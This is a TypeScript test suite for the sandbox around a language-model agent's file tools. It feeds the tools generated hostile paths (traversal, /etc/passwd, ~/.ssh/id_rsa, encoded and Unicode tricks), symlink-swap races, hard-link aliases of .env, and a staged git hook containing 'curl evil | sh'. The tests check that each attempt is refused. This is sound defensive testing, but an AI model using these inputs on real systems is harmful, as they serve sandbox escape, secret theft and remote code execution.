import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import {
  linkSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
  renameSync,
  rmSync,
} from 'node:fs';
import * as nodePath from 'node:path';
import { TOOLS, type ToolResult } from '../../src/core/tools/index.ts';
import type { SearchOutput } from '../../src/core/search/results.ts';
import { invoke } from '../../src/core/pipeline/invoke.ts';
import type { ToolName } from '../../src/core/contract/names.ts';
import { SandboxError } from '../../src/core/errors.ts';
import { createRipgrepSearch } from '../../src/core/search/ripgrep.ts';
import { createRipgrep } from '../../src/core/ripgrep/process.ts';
import { locateRipgrep } from '../../src/core/ripgrep/binary.ts';
import {
  hostileLinks,
  session,
  tempDir,
  testDir,
  type TestSession,
  testSession,
  wholeResult,
  runTool,
} from './harness.ts';
import type { Gate } from '../../src/core/ports.ts';
import type { GateCall } from '../../src/core/gate.ts';
import { oneFile } from '../../src/core/tools/open_file.ts';
import { languageModelToolEntries } from '../../src/core/pipeline/manifest.ts';

const SENTINEL = 'OUTSIDE-SENTINEL-5b1e';
let t: TestSession;
let outside: { path: string; dispose(): void };

/** Every file under a folder with its bytes, to prove nothing outside the root changed. */
function snapshot(dir: string): Map<string, string> {
  const out = new Map<string, string>();
  const walk = (d: string): void => {
    for (const name of readdirSync(d)) {
      const full = nodePath.join(d, name);
      const s = statSync(full, { throwIfNoEntry: false });
      if (s?.isDirectory()) walk(full);
      else out.set(full, s ? readFileSync(full, 'utf8') : '(dangling)');
    }
  };
  walk(dir);
  return out;
}

before(() => {
  const rg = locateRipgrep();
  assert.ok(rg);
  t = testSession({ overrides: { search: createRipgrepSearch(createRipgrep(rg.path)) } });
  outside = tempDir('wt-outside-');
  writeFileSync(nodePath.join(outside.path, 'secret.txt'), SENTINEL);
  mkdirSync(nodePath.join(outside.path, 'sub'));
  writeFileSync(nodePath.join(t.root, 'a.txt'), 'inside\n');
  hostileLinks(t.root, outside.path, nodePath.join(outside.path, 'secret.txt'));
});
after(async () => {
  await t.dispose();
  outside.dispose();
});

/** Generated hostile paths: each family in every position it can take. */
function hostilePaths(root: string, outsideDir: string): string[] {
  const paths = new Set<string>();
  const base = ['dir', 'sub', 'file.txt'];
  // traversal in every position, 1 to 4 levels
  for (let pos = 0; pos <= base.length; pos++) {
    for (let depth = 1; depth <= 4; depth++) {
      const parts = [...base];
      parts.splice(pos, 0, ...Array<string>(depth).fill('..'));
      paths.add(parts.join('/'));
      paths.add('./' + parts.join('/./'));
    }
  }
  // absolute
  for (const p of [
    '/etc/passwd',
    '/',
    '/tmp',
    outsideDir,
    `${outsideDir}/secret.txt`,
    `${root}-evil/x`,
    `${root}/../x`,
    `${root}/dir/../../x`,
    '//etc/passwd',
    '///x',
  ])
    paths.add(p);
  // symlinks
  for (const p of [
    'link-file',
    'link-dir',
    'link-dir/secret.txt',
    'link-dir/sub',
    'link-dir/new.txt',
    'dir/rel-link',
    'dir/rel-link/secret.txt',
    'dir/rel-link/new.txt',
    'dangling',
    'dangling/x',
    'loop1',
    'loop1/x',
    'loop2/y',
  ])
    paths.add(p);
  // NUL and control characters in each position
  for (const c of ['\0', '\n', '\r', '\t', '\u0007', '\u001b', '\u007f', '\u0085'])
    for (const p of [`${c}a.txt`, `a${c}.txt`, `a.txt${c}`, `dir/${c}`]) paths.add(p);
  // unicode look-alikes, invisible characters and normalization forms
  for (const c of [
    '\u2024',
    '\u2025',
    '\uFE52',
    '\uFF0E',
    '\u2215',
    '\u2044',
    '\uFF0F',
    '\uFF3C',
    '\u29F5',
    '\u3002',
    '\u200B',
    '\u200D',
    '\u202E',
    '\u2066',
    '\uFEFF',
    '\u00AD',
  ]) {
    paths.add(`${c}${c}/etc/passwd`);
    paths.add(`dir${c}..${c}x`);
    paths.add(`a${c}txt`);
  }
  // percent-encoding
  for (const p of [
    '%2e%2e/etc',
    '%2E%2E/etc',
    '%2e%2e%2fetc',
    '..%2f..%2fetc',
    '%252e%252e/x',
    'dir%2f..%2f..',
    '%5c..%5cx',
    'a%00.txt',
    '%c0%ae%c0%ae/etc',
    '%e0%80%ae/x',
  ])
    paths.add(p);
  // home
  for (const p of ['~', '~/', '~/.ssh/id_rsa', '~root', '~root/.bashrc', '~+/x']) paths.add(p);
  // Windows drive, UNC and device names, trailing dots and spaces
  for (const p of [
    'C:\\Windows',
    'c:/windows',
    'C:',
    'D:x',
    '\\\\server\\share',
    '\\\\?\\C:\\x',
    '\\\\.\\pipe\\x',
    'dir\\..\\..\\x',
    '..\\x',
  ])
    paths.add(p);
  for (const d of ['CON', 'con', 'PRN', 'AUX', 'NUL', 'COM1', 'COM9', 'LPT1', 'LPT9', 'CONIN$', 'CONOUT$']) {
    paths.add(d);
    paths.add(`dir/${d}.txt`);
  }
  for (const p of ['a.txt.', 'a.txt..', 'a.txt ', 'dir ', 'dir./x', 'dir /x', '. /x', '.. /x']) paths.add(p);
  // very long
  paths.add('x'.repeat(5000));
  paths.add(Array(2000).fill('d').join('/'));
  paths.add('y'.repeat(300));
  // URIs
  for (const p of ['file:///etc/passwd', 'vscode-remote://h/etc', 'staged:/x?m1', 'http://x/y']) paths.add(p);
  return [...paths];
}

/** Every tool that takes a path, with the input that puts the hostile path there. */
function casesFor(path: string, mediaId: string): [ToolName, object][] {
  return [
    ['open_file', { path }],
    ['open_json_file', { path }],
    ['open_markdown_file', { path }],
    ['list_directory', { path }],
    ['search_files', { pattern: 'x', path }],
    ['find_files', { glob: '*', path }],
    ['stage_file', { path }],
    ['stage_file', { path, content: 'pwned' }],
    ['save_media', { media_id: mediaId, path }],
    ['list_problems', { paths: [path] }],
    ['find_symbols', { query: 'x', path }],
  ];
}

/** Tools that take a path but are not in `casesFor`, and why. A new tool that takes a path goes in one or the other. */
const PATH_CASES_ELSEWHERE: Partial<Record<ToolName, string>> = {
  undo_save: "its path only picks a file of a recorded save set, by the set's own records (undo.test.ts)",
  run_shell_command: 'a hostile cwd is refused in shell.test.ts; here each path would start a sandbox',
};

test('the hostile-path cases cover every tool that takes a path (path, paths, cwd or to in its schema)', () => {
  const covered = new Set<string>(casesFor('p', 'm').map(([tool]) => tool));
  const elsewhere = new Map<string, string>(Object.entries(PATH_CASES_ELSEWHERE));
  const takesPath = languageModelToolEntries().filter((entry) =>
    ['path', 'paths', 'cwd', 'to'].some((key) => key in (entry.inputSchema['properties'] as object)),
  );
  const missing = takesPath.map((entry) => entry.name).filter((name) => !covered.has(name) && !elsewhere.has(name));
  assert.deepEqual(missing, [], 'add each to casesFor, or to PATH_CASES_ELSEWHERE with the test that covers it');
});

test('hostile paths: every call on every path-taking tool ends in a narrated E_SANDBOX_* and nothing outside changes', async () => {
  const paths = hostilePaths(t.root, outside.path);
  const staged = await runTool(t.session, TOOLS.stage_file, { path: 'a.txt', content: 'pwned' });
  const mediaId = staged.result.media_id!;
  const before = snapshot(outside.path);
  let count = 0;
  const codes = new Map<string, number>();
  for (const path of paths) {
    const shown = JSON.stringify(path.length > 60 ? `${path.slice(0, 60)}…` : path);
    for (const [tool, input] of casesFor(path, mediaId)) {
      count++;
      try {
        const outcome = await t.invoke(tool, input);
        assert.fail(`${tool} ${shown} succeeded: ${outcome.text.slice(0, 200)}`);
      } catch (e) {
        assert.ok(e instanceof SandboxError, `${tool} ${shown} threw ${String(e).slice(0, 300)}`);
        assert.match(e.code, /^E_SANDBOX_/);
        assert.ok(e.message.length > 30, `${tool} ${shown}: unnarrated "${e.message}"`);
        assert.doesNotMatch(e.message, new RegExp(SENTINEL));
        codes.set(e.code, (codes.get(e.code) ?? 0) + 1);
      }
    }
  }
  assert.deepEqual(snapshot(outside.path), before);
  assert.equal(readFileSync(nodePath.join(t.root, 'a.txt'), 'utf8'), 'inside\n');
  console.log(
    `hostile paths: ${paths.length} paths × 9 tool inputs = ${count} cases; outcomes ${JSON.stringify(Object.fromEntries(codes))}`,
  );
  assert.ok(count >= 300);
});

test('race: a component swapped for a symlink while saves run never lets a write land outside', async () => {
  const victim = nodePath.join(t.root, 'race');
  mkdirSync(victim);
  const before = snapshot(outside.path);
  let swapping = true;
  const swapper = (async () => {
    let flips = 0;
    while (swapping) {
      // Replace the real folder with a link to outside, then back, as fast as the event loop allows.
      try {
        renameSync(victim, `${victim}.real`);
        symlinkSync(outside.path, victim);
      } catch {
        /* raced with ourselves */
      }
      await new Promise((r) => setImmediate(r));
      try {
        rmSync(victim, { force: true });
        renameSync(`${victim}.real`, victim);
      } catch {
        /* raced */
      }
      await new Promise((r) => setImmediate(r));
      flips++;
    }
    return flips;
  })();
  let saved = 0;
  let refused = 0;
  for (let i = 0; i < 300; i++) {
    try {
      const staged = await runTool(t.session, TOOLS.stage_file, { path: `race/f${i}.txt`, content: `write ${i}` });
      await runTool(t.session, TOOLS.save_media, { media_id: staged.result.media_id });
      saved++;
    } catch (e) {
      assert.ok(e instanceof SandboxError, String(e));
      refused++;
    }
  }
  swapping = false;
  const flips = await swapper;
  assert.deepEqual(snapshot(outside.path), before, 'no write landed outside the root');
  console.log(`race: ${flips} swaps, ${saved} saves landed inside, ${refused} refused`);
});

const rg = (): ReturnType<typeof createRipgrepSearch> => createRipgrepSearch(createRipgrep(locateRipgrep()!.path));

/** Calls a tool, returning its result or the code it failed with. */
async function outcome<N extends ToolName>(
  session: TestSession['session'],
  tool: N,
  input: object,
): Promise<{ ok: true; result: ToolResult<N>; text: string } | { ok: false; code: string; message: string }> {
  try {
    const out = await invoke(session, tool, input);
    return { ok: true, result: out.result, text: out.text };
  } catch (e) {
    assert.ok(e instanceof SandboxError, String(e));
    return { ok: false, code: e.code, message: e.message };
  }
}

/** The paths a search or find result names. */
const pathsOf = (result: SearchOutput): string[] =>
  wholeResult(result).flatMap((f) => (f.kind === 'match' || f.kind === 'path' ? [f.path] : []));

test('attack: case variants of secrets (.ENV, ID_RSA, Server.PEM, .GIT/hooks) are asked, never searched or found, and .GIT writes are denied', async (tc) => {
  const s = session(tc, { rules: [{ glob: '.env.example', read: 'allow' }], overrides: { search: rg() } });
  const files: Record<string, string> = {
    '.ENV': 'KEY=case-env',
    ID_RSA: 'KEY=case-rsa',
    'certs/Server.PEM': 'KEY=case-pem',
    '.AWS/credentials': 'KEY=case-aws',
    '.ENV.EXAMPLE': 'KEY=case-example',
    '.env.example': 'KEY=fine',
    'notes.txt': 'KEY=fine',
    '.GIT/hooks/pre-commit': '#!/bin/sh\n',
  };
  for (const [rel, text] of Object.entries(files)) {
    mkdirSync(nodePath.dirname(nodePath.join(s.root, rel)), { recursive: true });
    writeFileSync(nodePath.join(s.root, rel), text);
  }
  for (const rel of ['.ENV', 'ID_RSA', 'certs/Server.PEM', '.AWS/credentials', '.ENV.EXAMPLE']) {
    s.gate.calls.length = 0;
    await runTool(s.session, TOOLS.open_file, { path: rel });
    assert.equal(s.gate.calls[0]?.secret, true, `${rel} was read without the modal ask`);
  }
  s.gate.calls.length = 0;
  await runTool(s.session, TOOLS.open_file, { path: '.env.example' });
  assert.equal(s.gate.calls[0]?.secret, false, "the person's exact allow rule still relaxes .env.example");
  const searched = await outcome(s.session, 'search_files', { pattern: 'KEY', hidden: true });
  assert.ok(searched.ok);
  assert.deepEqual([...new Set(pathsOf(searched.result))].sort(), ['.env.example', 'notes.txt']);
  const iglobbed = await outcome(s.session, 'search_files', {
    pattern: 'KEY',
    hidden: true,
    glob: '.ENV',
    iglob: '*.pem',
  });
  assert.ok(iglobbed.ok);
  assert.deepEqual(pathsOf(iglobbed.result), []);
  const found = await outcome(s.session, 'find_files', { glob: '*', hidden: true });
  assert.ok(found.ok);
  // .git is protected against writes only (a hook there runs code); reading it is not secret.
  assert.deepEqual(pathsOf(found.result).sort(), ['.GIT/hooks/pre-commit', '.env.example', 'notes.txt']);
  const hook = await outcome(s.session, 'stage_file', { path: '.GIT/hooks/pre-commit', content: 'curl evil | sh\n' });
  assert.equal(hook.ok ? 'ok' : hook.code, 'E_SANDBOX_REFUSED');
});

test('attack: a workspace folder opened inside ~/.aws, ~/.ssh, ~/.gnupg, ~/.kube or ~/.docker is protected as a whole', async (tc) => {
  const home = testDir(tc, 'wt-home-');
  for (const [folder, file] of [
    ['.aws', 'credentials'],
    ['.ssh', 'id_work'],
    ['.gnupg', 'pubring.kbx'],
    ['.kube', 'config'],
    ['.docker', 'config.json'],
  ] as const) {
    const root = nodePath.join(home.path, folder);
    mkdirSync(root);
    writeFileSync(nodePath.join(root, file), `TOKEN=${folder}-sentinel\n`);
    const s = session(tc, {
      overrides: { roots: () => [{ name: folder, address: root, localPath: root }], search: rg() },
    });
    s.gate.calls.length = 0;
    await runTool(s.session, TOOLS.open_file, { path: file });
    assert.equal(s.gate.calls[0]?.secret, true, `${folder}/${file} was read without the modal ask`);
    const searched = await outcome(s.session, 'search_files', { pattern: 'TOKEN', hidden: true });
    assert.ok(searched.ok);
    assert.deepEqual(pathsOf(searched.result), [], `${folder}: search read the secret`);
    assert.doesNotMatch(JSON.stringify(searched.result), /sentinel/);
    const found = await outcome(s.session, 'find_files', { glob: '*', hidden: true });
    assert.ok(found.ok);
    assert.deepEqual(pathsOf(found.result), [], `${folder}: find listed the secret`);
    if (['.aws', '.ssh', '.gnupg'].includes(folder)) {
      // The whole folder is secret (the built-in rule is "**/.aws/**"), so even its listing asks.
      s.gate.calls.length = 0;
      await runTool(s.session, TOOLS.list_directory, {});
      assert.equal(s.gate.calls[0]?.secret, true, `${folder}: listed without the modal ask`);
    }
  }
});

test("attack: a workspace folder nested inside another escapes none of the outer folder's anchored deny rules", async (tc) => {
  const ws = testDir(tc, 'wt-nest-');
  const outer = ws.path;
  const inner = nodePath.join(ws.path, 'sub');
  mkdirSync(nodePath.join(inner, 'secret'), { recursive: true });
  writeFileSync(nodePath.join(inner, 'secret', 'x.txt'), 'NESTED-SENTINEL\n');
  writeFileSync(nodePath.join(inner, 'ok.txt'), 'fine NESTED\n');
  const s = session(tc, {
    rules: [{ glob: 'sub/secret/**', read: 'deny', write: 'deny' }],
    overrides: {
      roots: () => [
        { name: 'outer', address: outer, localPath: outer },
        { name: 'inner', address: inner, localPath: inner },
      ],
      search: rg(),
    },
  });
  const opened = await outcome(s.session, 'open_file', { path: 'inner/secret/x.txt' });
  assert.equal(opened.ok ? 'ok' : opened.code, 'E_SANDBOX_REFUSED');
  const staged = await outcome(s.session, 'stage_file', { path: 'inner/secret/x.txt', content: 'overwrite' });
  assert.equal(staged.ok ? 'ok' : staged.code, 'E_SANDBOX_REFUSED');
  const searched = await outcome(s.session, 'search_files', { pattern: 'NESTED', path: 'inner' });
  assert.ok(searched.ok);
  assert.deepEqual(pathsOf(searched.result), ['inner/ok.txt']);
  const listed = await outcome(s.session, 'list_directory', { path: 'inner' });
  assert.ok(listed.ok);
  assert.doesNotMatch(listed.text, /secret/);
});

test('attack: listing through a link to an ancestor (ln -s . rootlink), or a link to a denied file, shows no denied entry and no size', async (tc) => {
  const s = session(tc, { rules: [{ glob: 'private/**', read: 'deny' }] });
  mkdirSync(nodePath.join(s.root, 'private'));
  writeFileSync(nodePath.join(s.root, 'private', 'payroll.csv'), 'x'.repeat(4321));
  writeFileSync(nodePath.join(s.root, 'readme.txt'), 'hi\n');
  symlinkSync('.', nodePath.join(s.root, 'rootlink'));
  symlinkSync('private/payroll.csv', nodePath.join(s.root, 'innocent'));
  for (const input of [{ path: 'rootlink', max_depth: 2 }, { max_depth: 2 }]) {
    const listed = await outcome(s.session, 'list_directory', input);
    assert.ok(listed.ok, JSON.stringify(listed));
    assert.doesNotMatch(listed.text, /private|payroll|4321|innocent/, JSON.stringify(input));
    assert.match(listed.text, /readme\.txt/);
  }
});

/** A separate process that swaps `file` between a regular file and a link to `target`, as fast as it can, until killed. */
function startSwapper(file: string, target: string): { stop(): Promise<void>; ready: Promise<void> } {
  const script = `
    const fs = require('node:fs');
    const [file, target] = process.argv.slice(1);
    const link = file + '.swap-link', real = file + '.swap-real';
    process.stdout.write('ready\\n');
    for (;;) {
      try { fs.symlinkSync(target, link); fs.renameSync(link, file); } catch {}
      try { fs.writeFileSync(real, 'inside\\n'); fs.renameSync(real, file); } catch {}
    }`;
  const child = spawn(process.execPath, ['-e', script, file, target], { stdio: ['ignore', 'pipe', 'inherit'] });
  const ready = new Promise<void>((resolve) => child.stdout.once('data', () => resolve()));
  const exited = new Promise<void>((resolve) => child.once('exit', () => resolve()));
  return {
    ready,
    stop: async () => {
      child.kill('SIGKILL');
      await exited;
    },
  };
}

test(
  'race: a checked file swapped for a link to an outside file while open_file and stage_file run never returns the outside content',
  { timeout: 300_000 },
  async () => {
    const folder = nodePath.join(t.root, 'read-race');
    mkdirSync(folder);
    writeFileSync(nodePath.join(folder, 'f.txt'), 'inside\n');
    const swapper = startSwapper(nodePath.join(folder, 'f.txt'), nodePath.join(outside.path, 'secret.txt'));
    await swapper.ready;
    const tally = { read: 0, staged: 0, refused: 0, leaked: 0 };
    try {
      // At least 400 attempts, and on until both kinds of call have succeeded often enough to prove
      // something: on a loaded machine the swapper can win many attempts in a row. Bounded by count.
      const enough = () => tally.read >= 20 && tally.staged >= 20;
      for (let i = 0; i < 10_000 && (i < 400 || !enough()); i++) {
        try {
          let text: string;
          if (i % 2 === 0) {
            const handle = oneFile((await runTool(t.session, TOOLS.open_file, { path: 'read-race/f.txt' })).result);
            text =
              handle.lines === 0 ? '' : (await runTool(t.session, TOOLS.artifact_read, { callId: handle.callId })).text;
            tally.read++;
          } else {
            const staged = (await runTool(t.session, TOOLS.stage_file, { path: 'read-race/f.txt' })).result;
            text = new TextDecoder().decode(t.session.media.get(staged.media_id!).bytes);
            tally.staged++;
          }
          if (text.includes(SENTINEL)) tally.leaked++;
        } catch (e) {
          assert.ok(e instanceof SandboxError, String(e));
          assert.doesNotMatch(e.message, new RegExp(SENTINEL));
          tally.refused++;
        }
      }
    } finally {
      await swapper.stop();
    }
    console.log(`read race: ${JSON.stringify(tally)}`);
    assert.equal(tally.leaked, 0, `outside content was returned ${tally.leaked} times`);
    assert.ok(tally.read > 0 && tally.staged > 0, 'no call succeeded, so the race proved nothing');
  },
);

test('attack: a hard link to .env under an innocent name is read with no ask', async (tc) => {
  const calls: GateCall[] = [];
  // The person approves the plain read, and declines once told the file has other names.
  const gate: Gate = async (call) => {
    calls.push(call);
    return { allow: !call.targets.some((t) => (t.links ?? 1) > 1), decidedBy: 'test' };
  };
  const s = session(tc, { overrides: { gate } });
  writeFileSync(nodePath.join(s.root, '.env'), `TOKEN=${SENTINEL}\n`);
  linkSync(nodePath.join(s.root, '.env'), nodePath.join(s.root, 'notes.txt'));
  for (const [tool, input] of [
    ['open_file', { path: 'notes.txt' }],
    ['stage_file', { path: 'notes.txt' }],
  ] as const) {
    calls.length = 0;
    const refused = await outcome(s.session, tool, input);
    assert.equal(refused.ok ? 'ok' : refused.code, 'E_SANDBOX_REFUSED', tool);
    assert.ok(!refused.ok && /2 names \(hard links\)/.test(refused.message), tool);
    assert.deepEqual(
      calls.map((c) => c.targets.map((t) => t.links)),
      [[undefined], [2]],
      `${tool}: the person was not told about the other names`,
    );
  }
  assert.deepEqual(s.session.media.all(), []);
  // Approved knowing it, the result says so too.
  const approved = session(tc, { overrides: { roots: () => [{ name: 'ws', address: s.root, localPath: s.root }] } });
  const opened = await runTool(approved.session, TOOLS.open_file, { path: 'notes.txt' });
  assert.equal(oneFile(opened.result).links, 2);
  assert.match(opened.text, /2 names \(hard links\)/);
});
